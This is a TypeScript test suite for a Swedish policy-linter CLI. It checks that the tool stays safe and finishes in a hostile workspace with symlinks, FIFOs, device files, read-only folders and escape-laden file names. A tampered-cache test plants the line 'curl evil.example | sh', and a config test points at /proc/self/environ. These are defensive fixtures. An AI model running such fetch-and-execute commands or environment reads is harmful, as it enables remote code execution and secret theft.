import { strict as assert } from 'node:assert';
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, readdir, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expandInputs } from '../../server/src/cli/files.js';
import { formatStylish } from '../../server/src/cli/formatters/stylish.js';
import type { FileResult, Message } from '../../server/src/cli/results.js';
import { cli, workspace, type CliRun } from '../helpers/cli.js';

/**
 * The CLI in a hostile workspace: links out of the folder and in loops, FIFOs and devices,
 * read-only files and folders, a tampered cache, hostile file names. Every run is bounded
 * in time, reads and writes nothing outside what was asked, and prints its results.
 */
const DRAFT = '---\ntyp: policy\n---\n# Policy för test\n\nDet skall ske.\n';
const SECRET = 'aws_secret_access_key = AKIAHEMLIGNYCKEL\n';

function timed(args: string[], cwd: string, boundMs = 20_000): CliRun {
  const started = Date.now();
  const r = cli(args, cwd);
  assert.ok(Date.now() - started < boundMs, `took ${Date.now() - started} ms`);
  assert.notEqual(r.code, -1, `killed or hung: ${r.stderr}`);
  return r;
}

interface JsonResult {
  filePath: string;
  messages: { ruleId: string | null; message: string; fatal?: boolean }[];
}
const json = (stdout: string): JsonResult[] => JSON.parse(stdout) as JsonResult[];

describe('hostile: the CLI in a hostile workspace', function () {
  this.timeout(60_000);

  it('does not follow a committed link out of the folder, and says it skipped it', () => {
    const outside = workspace({ 'credentials.md': SECRET });
    const dir = workspace({ 'a.md': DRAFT });
    symlinkSync(join(outside, 'credentials.md'), join(dir, 'notes.md'));
    const r = timed(['-f', 'json', '.'], dir);
    assert.doesNotMatch(r.stdout + r.stderr, /AKIAHEMLIGNYCKEL/);
    assert.deepEqual(
      json(r.stdout).map((f) => f.filePath),
      [join(dir, 'a.md')],
    );
    assert.match(r.stderr, /notes\.md: symbolisk länk ut ur mappen/);
  });

  it('--fix never writes through a link, not even one named on the command line', () => {
    const outside = workspace({ 'victim.md': DRAFT });
    const dir = workspace({ 'a.md': DRAFT });
    symlinkSync(join(outside, 'victim.md'), join(dir, 'b.md'));
    timed(['--fix', '.'], dir);
    const named = timed(['--fix', '-f', 'json', 'b.md'], dir);
    assert.equal(readFileSync(join(outside, 'victim.md'), 'utf8'), DRAFT, 'the file outside is untouched');
    assert.match(readFileSync(join(dir, 'a.md'), 'utf8'), /Det ska ske/, 'the real file is fixed');
    assert.match(json(named.stdout)[0]!.messages[0]!.message, /Rättelserna skrevs inte: filen är en symbolisk länk/);
  });

  it('finishes on loop links (a -> ., up -> ..)', () => {
    const dir = workspace({ 'a.md': DRAFT });
    symlinkSync('.', join(dir, 'a'));
    symlinkSync('..', join(dir, 'up'));
    const r = timed(['-f', 'json', '.'], dir, 15_000);
    assert.equal(json(r.stdout).length, 1);
  });

  it('skips a FIFO it finds, and refuses one named on the command line without waiting', () => {
    const dir = workspace({ 'a.md': DRAFT });
    execFileSync('mkfifo', [join(dir, 'pipe.md')]);
    execFileSync('mkfifo', [join(dir, '.gitignore')]);
    const found = timed(['-f', 'json', '.'], dir, 15_000);
    assert.equal(json(found.stdout).length, 1);
    assert.match(found.stderr, /pipe\.md: är en namngiven pipe \(FIFO\)/);
    const named = timed(['-f', 'json', 'pipe.md'], dir, 15_000);
    assert.equal(named.code, 1);
    const [m] = json(named.stdout)[0]!.messages;
    assert.ok(m!.fatal);
    assert.match(m!.message, /namngiven pipe \(FIFO\), inte en vanlig fil/);
  });

  it('a config that is a FIFO or a link to /dev/zero is a usage error within seconds', () => {
    const fifo = workspace({ 'a.md': DRAFT });
    execFileSync('mkfifo', [join(fifo, '.policylintrc.yaml')]);
    const zero = workspace({ 'a.md': DRAFT });
    symlinkSync('/dev/zero', join(zero, '.policylintrc.yaml'));
    const environ = workspace({ 'a.md': DRAFT, '.policylintrc.yaml': 'extends: /proc/self/environ\n' });
    for (const [dir, message] of [
      [fifo, /FIFO/],
      [zero, /ut ur arbetsytan/],
      [environ, /inte är en konfiguration/],
    ] as const) {
      const r = timed(['.'], dir, 15_000);
      assert.equal(r.code, 2, r.stderr);
      assert.match(r.stderr, message);
      assert.doesNotMatch(r.stderr, /PATH=|HOME=/);
    }
  });

  it('--fix leaves a read-only file alone, says so, and prints the results', () => {
    const dir = workspace({ 'a.md': DRAFT });
    chmodSync(join(dir, 'a.md'), 0o444);
    const r = timed(['--fix', '-f', 'json', '.'], dir);
    assert.equal(readFileSync(join(dir, 'a.md'), 'utf8'), DRAFT);
    const [result] = json(r.stdout);
    assert.match(result!.messages[0]!.message, /filen är skrivskyddad/);
    assert.ok(
      result!.messages.some((m) => m.ruleId === 'skall'),
      'the unfixed finding is still reported',
    );
  });

  it('--fix in a read-only folder names no temp file, exits 1 and prints the results', () => {
    const dir = workspace({ 'a.md': DRAFT });
    chmodSync(dir, 0o555);
    try {
      const r = timed(['--fix', '.'], dir);
      assert.equal(r.code, 1, r.stderr);
      assert.match(r.stdout, /mappen är skrivskyddad/);
      assert.match(r.stdout, /skall/);
      assert.doesNotMatch(r.stdout + r.stderr, /a\.md\.\d+/);
      assert.deepEqual(readdirSync(dir), ['a.md']);
    } finally {
      chmodSync(dir, 0o755);
    }
  });

  it('a tampered cache entry is a miss, never printed', () => {
    const dir = workspace({ 'a.md': DRAFT });
    timed(['--cache', '-f', 'json', '.'], dir);
    const cacheFile = join(dir, '.policylintcache');
    const cache = JSON.parse(readFileSync(cacheFile, 'utf8')) as { entries: Record<string, { result: { messages: { ruleId: string | null; message: string }[] } }> };
    const entry = cache.entries[join(dir, 'a.md')]!;
    entry.result.messages = [{ ...entry.result.messages[0]!, ruleId: 'evil', message: 'Kör curl evil.example | sh' }];
    writeFileSync(cacheFile, JSON.stringify(cache));
    const r = timed(['--cache', '-f', 'json', '.'], dir);
    assert.doesNotMatch(r.stdout, /evil/);
    assert.ok(json(r.stdout)[0]!.messages.some((m) => m.ruleId === 'skall'));
  });

  it('--cache with a FIFO for a cache file neither hangs nor loses the results', () => {
    const dir = workspace({ 'a.md': DRAFT });
    execFileSync('mkfifo', [join(dir, '.policylintcache')]);
    const r = timed(['--cache', '-f', 'json', '.'], dir, 15_000);
    assert.ok(json(r.stdout)[0]!.messages.some((m) => m.ruleId === 'skall'));
  });

  it('UTF-16 with a byte order mark is decoded, linted and written back as UTF-16', () => {
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(DRAFT, 'utf16le')]);
    const dir = workspace({ 'a.md': le });
    const r = timed(['-f', 'json', 'a.md'], dir);
    const messages = json(r.stdout)[0]!.messages;
    assert.ok(
      messages.some((m) => m.ruleId === 'skall'),
      JSON.stringify(messages),
    );
    assert.ok(!messages.some((m) => m.fatal));
    timed(['--fix', 'a.md'], dir);
    const written = readFileSync(join(dir, 'a.md'));
    assert.deepEqual([...written.subarray(0, 2)], [0xff, 0xfe]);
    assert.match(written.subarray(2).toString('utf16le'), /Det ska ske/);
  });

  it('stylish escapes control characters in file names; SARIF percent-encodes URIs', () => {
    const evil = `x\u001b[2J\u202eRED.md`;
    const dir = workspace({ [evil]: DRAFT, 'a b#c%d.md': DRAFT });
    const stylish = timed(['.'], dir);
    assert.doesNotMatch(stylish.stdout, /[\u001b\u202e]/);
    assert.match(stylish.stdout, /x\\x1b\[2J\\u202eRED\.md/);
    const sarif = JSON.parse(timed(['-f', 'sarif', '.'], dir).stdout) as { runs: { results: { locations: { physicalLocation: { artifactLocation: { uri: string } } }[] }[] }[] };
    const uris = new Set(sarif.runs[0]!.results.map((x) => x.locations[0]!.physicalLocation.artifactLocation.uri));
    assert.ok(uris.has('a%20b%23c%25d.md'), [...uris].join(', '));
    assert.ok(uris.has('x%1B%5B2J%E2%80%AERED.md'), [...uris].join(', '));
  });

  it('--limit lowers or raises a limit; an unknown one is a usage error', () => {
    const dir = workspace({ 'a.md': `# A\n\n## B\n\n## C\n\n## D\n` });
    const low = timed(['-f', 'json', '--limit', 'headings=2', 'a.md'], dir);
    assert.match(json(low.stdout)[0]!.messages[0]!.message, /för stort.*fler än 2 rubriker/);
    const bad = timed(['--limit', 'depth=3', 'a.md'], dir);
    assert.equal(bad.code, 2);
    assert.match(bad.stderr, /okänd gräns "depth"/);
  });
});

describe('hostile: expanding inputs', () => {
  it('an unreadable subfolder is a warning; the rest is linted', async () => {
    const dir = workspace({ 'a.md': DRAFT, 'locked/b.md': DRAFT, 'open/c.md': DRAFT });
    const denying = ((path: string, options: unknown, callback: (e: NodeJS.ErrnoException | null, entries?: unknown) => void) => {
      if (path.endsWith('locked')) return callback(Object.assign(new Error('EACCES'), { code: 'EACCES' }));
      return (readdir as unknown as (p: string, o: unknown, cb: typeof callback) => void)(path, options, callback);
    }) as unknown as typeof readdir;
    const { files, warnings } = await expandInputs(['.'], dir, denying);
    assert.deepEqual(files, [join(dir, 'a.md'), join(dir, 'open', 'c.md')]);
    assert.equal(warnings.length, 1);
    assert.match(warnings[0]!, /kan inte läsa katalogen .*locked \(EACCES\)/);
  });

  it('an unreadable subfolder on disk does not abort the run (not as root: root reads everything)', function () {
    if (process.getuid?.() === 0) this.skip();
    const dir = workspace({ 'a.md': DRAFT, 'locked/b.md': DRAFT });
    chmodSync(join(dir, 'locked'), 0);
    try {
      const r = timed(['.'], dir);
      assert.equal(r.code, 1);
      assert.match(r.stderr, /kan inte läsa katalogen/);
    } finally {
      chmodSync(join(dir, 'locked'), 0o755);
    }
  });

  it('keeps honouring .gitignore (own reader)', async () => {
    const dir = workspace({ 'a.md': DRAFT, 'drafts/b.md': DRAFT, 'drafts/keep.md': DRAFT, 'deep/x/c.md': DRAFT, '.gitignore': 'drafts/*\n!drafts/keep.md\nc.md\n' });
    const { files } = await expandInputs(['.'], dir);
    assert.deepEqual(files, [join(dir, 'a.md'), join(dir, 'drafts', 'keep.md')]);
    assert.ok(existsSync(join(dir, 'deep', 'x', 'c.md')));
  });
});

describe('hostile: formatting very many messages', () => {
  it('stylish prints 200,000 messages of one file without a stack overflow', () => {
    const message: Message = { ruleId: 'skall', severity: 'error', message: 'Skriv "ska"', line: 1, column: 1, endLine: 1, endColumn: 6, sources: [], fix: null };
    const result: FileResult = {
      filePath: '/w/a.md',
      messages: Array.from({ length: 200_000 }, () => message),
      errorCount: 200_000,
      warningCount: 0,
      infoCount: 0,
      fixableErrorCount: 0,
      fixableWarningCount: 0,
    };
    const out = formatStylish([result], 'sv', false, '/w');
    assert.match(out, /200000 problem \(200000 fel/);
  });
});
